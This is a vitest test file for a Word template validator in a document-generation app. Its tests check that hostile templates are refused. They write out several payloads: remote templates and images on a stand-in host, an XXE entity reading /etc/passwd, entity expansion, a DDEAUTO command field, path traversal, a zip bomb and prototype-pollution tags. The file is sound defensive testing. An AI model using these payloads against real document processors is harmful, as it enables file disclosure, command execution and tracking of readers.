import PizZip from "pizzip";
import { describe, expect, test } from "vitest";
import { EXAMPLES } from "@/lib/documents/examples/examples";
import { DOCUMENTS } from "@/lib/documents/render";
import { assessTemplate } from "@/lib/documents/template/assess-template";
import { fillTemplate } from "@/lib/documents/template/fill-template";
import { openPackage } from "@/lib/documents/template/open-package";
import { modelShape } from "@/lib/documents/template/shape";
import { starterTemplate } from "@/lib/documents/template/starter";
import { viewOf } from "@/lib/documents/template/view";
import { fillTags } from "@/lib/documents/template/word-template";
import type { Refusal } from "@/lib/domain/outcome";
import { wordPart } from "@/tests/support/documents/read-word";
import { paragraph, templateOf, withPart } from "@/tests/support/documents/word-template";

const { kind, model } = EXAMPLES["task-order"];
const shape = modelShape(DOCUMENTS[kind].schema);
const example = model({ language: "zh-CN", body: null });
const starter = () => starterTemplate({ shape, name: "任务书", language: "zh-CN", date: "2026-01-01" });

const faultsOf = (bytes: Uint8Array): readonly Refusal[] => {
  const opened = openPackage(bytes);
  return opened.ok ? assessTemplate(opened.value, shape).faults : opened.refusals;
};
const codesOf = (bytes: Uint8Array): readonly string[] => faultsOf(bytes).map(({ code }) => code);

const RELATIONS = "word/_rels/document.xml.rels";
const relation = (type: string, target: string, mode = ' TargetMode="External"'): string =>
  `<Relationships><Relationship Id="rX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}"${mode}/></Relationships>`;

test.each([
  ["a remote picture", RELATIONS, relation("image", "https://collect.example/p.png"), "template-external"],
  [
    "a remote picture told in references",
    RELATIONS,
    relation("image", "//collect.example/p", ' TargetMode="&#69;xternal"'),
    "template-external",
  ],
  ["a link to a share", RELATIONS, relation("hyperlink", "file://collect.example/s"), "template-external"],
  [
    "a remote template",
    RELATIONS,
    relation("attachedTemplate", "https://collect.example/t.dotm"),
    "template-active",
  ],
  [
    "an object of other software",
    RELATIONS,
    relation("oleObject", "embeddings/o.xml", ""),
    "template-active",
  ],
  ["a foreign chunk", RELATIONS, relation("aFChunk", "chunk.xml", ""), "template-active"],
  ["a program for macros", "word/vbaProject.bin", "MZ", "template-part"],
  ["a script", "word/run.js", "1", "template-part"],
  ["a path that climbs", "../escape.xml", "<a/>", "template-part"],
  [
    "an entity of a file",
    "word/styles.xml",
    '<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]><a>&e;</a>',
    "template-entity",
  ],
  [
    "entities of entities",
    "customXml/item1.xml",
    '<!DOCTYPE a [<!ENTITY b "ha"><!ENTITY c "&b;&b;">]><a>&c;</a>',
    "template-entity",
  ],
  ["a part in UTF-16", "word/styles.xml", Buffer.from("\ufeff<!DOCTYPE a>", "utf16le"), "template-encoding"],
  [
    "a field that fetches",
    "word/header9.xml",
    '<w:hdr><w:instrText> INCLUDE</w:instrText><w:instrText>PICTURE "https://collect.example"</w:instrText></w:hdr>',
    "template-field",
  ],
  [
    "a field that runs",
    "word/footer9.xml",
    '<w:ftr><w:fldSimple w:instr=" DDEAUTO cmd calc "/></w:ftr>',
    "template-field",
  ],
  [
    "a document of macros",
    "[Content_Types].xml",
    '<Types><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
    "template-active",
  ],
])("a template with %s is refused", async (_, path, content, code) => {
  expect(codesOf(withPart(await starter(), path, content))).toEqual([code]);
});

test("a hyperlink to a page or by mail, page numbers and pictures stay allowed", async () => {
  const linked = withPart(
    await starter(),
    "word/_rels/header9.xml.rels",
    relation("hyperlink", "https://body.example"),
  );
  expect(codesOf(linked)).toEqual([]);
  expect(codesOf(withPart(linked, "word/media/picture.png", "x"))).toEqual([]);
});

describe("what unpacks to more than it is", () => {
  test("a bomb of zeros, four hundred entries and six megabytes of text are refused", async () => {
    const zeros = withPart(await starter(), "word/media/a.png", Buffer.alloc(40 * 1024 * 1024));
    expect(zeros.byteLength).toBeLessThan(5 * 1024 * 1024);
    expect(codesOf(zeros)).toEqual(["template-unpacks"]);
    const many = new PizZip(Buffer.from(await starter()));
    for (let index = 0; index < 400; index += 1) many.file(`word/media/${index}.png`, "x");
    expect(codesOf(many.generate({ type: "uint8array" }))).toEqual(["template-unpacks"]);
    expect(codesOf(withPart(await starter(), "word/a.xml", "x".repeat(7 * 1024 * 1024)))).toEqual([
      "template-unpacks",
    ]);
  });

  test("what is no zip, half a zip or another kind of zip is no template", async () => {
    const half = (await starter()).slice(0, 4_000);
    for (const bytes of [new Uint8Array(0), new Uint8Array(30), new TextEncoder().encode("%PDF-1.7"), half])
      expect(codesOf(bytes)).toEqual(["template-not-word"]);
    const other = new PizZip();
    other.file("a.xml", "<a/>");
    expect(codesOf(other.generate({ type: "uint8array" }))).toEqual(["template-not-word"]);
  });

  test("a list in a list it is no part of would multiply both, and is refused", () => {
    const nested = paragraph("{#team}{#team}{#team}{name}{/team}{/team}{/team}");
    expect(codesOf(templateOf(nested))).toEqual(["template-list-inside"]);
    expect(codesOf(templateOf(paragraph("{#team}{#sites}{.}{/sites}{/team}")))).toEqual([
      "template-list-inside",
    ]);
    expect(codesOf(templateOf(paragraph("{#team}{#codes}{.}{/codes}{/team}")))).toEqual([]);
  });
});

test.each([
  "constructor",
  "__proto__",
  "constructor.constructor",
  "team.constructor",
  "subject.client.__proto__.polluted",
  "toString",
  "subject.hasOwnProperty",
])("{%s} leads nowhere: it is unknown, and filled all the same it says nothing", (path) => {
  const bytes = templateOf(paragraph(`[{${path}}]`));
  expect(codesOf(bytes)).toEqual([
    path.startsWith("_") || path.includes("._") ? "template-expression" : "template-unknown",
  ]);
  const zip = new PizZip(Buffer.from(bytes));
  const view = viewOf(shape, JSON.parse('{"__proto__":{"polluted":"yes"},"number":"1"}'), {
    language: "zh-CN",
    document: "task-order",
  });
  const text = (): string => fillTags(zip, view).file("word/document.xml")?.asText() ?? "";
  if (path.includes("__proto__")) expect(text).toThrow();
  else expect(text()).toContain("[]");
  expect(Object.hasOwn(Object.prototype, "polluted")).toBe(false);
});

test.each([
  "{@number}",
  "{number + 1}",
  "{team[0].name}",
  "{number | upper}",
  "{!number}",
  "{ $index }",
  "{#team.length}x{/}",
  "{include 'x'}",
])("%s is no plain name and is refused", (tag) => {
  const codes = codesOf(templateOf(paragraph(tag)));
  expect(codes.length).toBeGreaterThan(0);
  expect(["template-expression", "template-unknown", "template-broken"]).toContain(codes[0]);
});

test("what a client typed stands as text, whatever it looks like", () => {
  const bytes = templateOf(paragraph("{subject.client.name}"));
  const name = '<w:p/>{number}</w:t>&amp;"\u0000';
  const hostile = { ...example, subject: { client: { name } } };
  const xml = fillTemplate(bytes, {
    shape,
    model: hostile,
    language: "zh-CN",
    document: "task-order",
    title: "T",
  });
  const text = wordPart(xml, "word/document.xml");
  expect(text).toContain("&lt;w:p/&gt;{number}&lt;/w:t&gt;&amp;amp;");
  expect(text).not.toContain(example.number);
});

test("mistakes are told with their place and the nearest known name", () => {
  const bytes = templateOf(
    [paragraph("编号：{numbr}"), paragraph("{#team}"), paragraph("组长 {nam}"), paragraph("{/team}")].join(
      "",
    ),
  );
  const [first, second, ...more] = faultsOf(bytes);
  expect(first).toMatchObject({
    code: "template-unknown",
    facts: { tag: "{numbr}", templatePart: "document" },
  });
  expect(first?.facts?.["near"]).toContain("编号：{numbr}");
  expect(first?.facts?.["nearest"]).toContain("number");
  expect(second).toMatchObject({ code: "template-unknown", facts: { tag: "{nam}" } });
  expect(second?.facts?.["nearest"]).toContain("name");
  expect(more).toEqual([]);
});

test("what is opened and not closed, closed and not opened, crossed or cut off is told", () => {
  expect(codesOf(templateOf(paragraph("{#team}{name}")))).toEqual(["template-unclosed"]);
  expect(codesOf(templateOf(paragraph("{name}{/team}")))).toEqual(["template-unopened"]);
  expect(codesOf(templateOf(paragraph("{#team}{#codes}{.}{/team}{/codes}")))).toContain("template-crossed");
  expect(codesOf(templateOf(paragraph("编号 {number")))).toEqual(["template-braces"]);
  expect(codesOf(templateOf(paragraph("编号 number}")))).toEqual(["template-braces"]);
});

test("number, form, body, client and those who sign are missed where they are left out", () => {
  const opened = openPackage(
    templateOf(paragraph("{number} {#subject}{#client}{name}{/client}{/subject} {issuer.name}")),
  );
  if (!opened.ok) throw new Error("not opened");
  expect(assessTemplate(opened.value, shape)).toEqual({
    faults: [],
    missing: ["form.code", "body.name", "client.name"],
  });
});
